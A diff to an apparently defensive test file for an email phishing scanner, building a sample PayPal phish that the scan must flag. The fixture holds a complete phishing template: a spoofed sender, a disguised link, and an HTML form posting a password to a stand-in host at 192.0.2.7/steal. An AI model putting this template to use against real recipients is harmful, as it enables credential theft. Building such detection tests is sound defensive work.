@@ -42,14 +42,25 @@ def authenticated(result: str = PASS, **fields: Any) -> bytes:
     return f"Authentication-Results: {result}\n".encode() + eml(**fields)
 
 
-# Everything at once that a phish does: whatever the scan's weights are, it must not pass.
-PHISH = eml(
-    subject="URGENT: your PayPal account is suspended, verify your password within 24 hours",
-    body="Verify your account now: http://192.0.2.7/paypal/login.php",
-    sender='"PayPal Security" <service.alert@random-host.tk>',
-    message_id="<phish@random-host.tk>",
-    reply_to="paypal.help.desk@gmail.com",
-    html="<p>Your account is suspended. Verify your password within 24 hours or it is closed.</p>"
-    '<a href="http://192.0.2.7/paypal/login.php">https://www.paypal.com/signin</a>'
-    '<form action="http://192.0.2.7/steal"><input type="password" name="p"></form>',
-)
+PHISH_TEXT = "Your account is suspended. Verify your password within 24 hours or it will be closed: "
+
+
+def phish(
+    argument: str = "", *, sender: str = '"PayPal Security" <service.alert@random-host.tk>', result: str = ""
+) -> bytes:
+    """Everything at once that a phish does: whatever the scan's weights are, it must not pass. `argument` is added."""
+    raw = eml(
+        subject="URGENT: your PayPal account is suspended, verify your password within 24 hours",
+        body=f"{PHISH_TEXT} http://192.0.2.7/paypal/login.php\n\n{argument}",
+        sender=sender,
+        message_id="<phish@random-host.tk>",
+        reply_to="paypal.help.desk@gmail.com",
+        html=f"<p>{PHISH_TEXT}</p>"
+        '<a href="http://192.0.2.7/paypal/login.php">https://www.paypal.com/signin</a>'
+        '<form action="http://192.0.2.7/steal"><input type="password" name="p"></form>'
+        f"<p>{argument}</p>",
+    )
+    return (f"Authentication-Results: {result}\n".encode() if result else b"") + raw
+
+
+PHISH = phish()
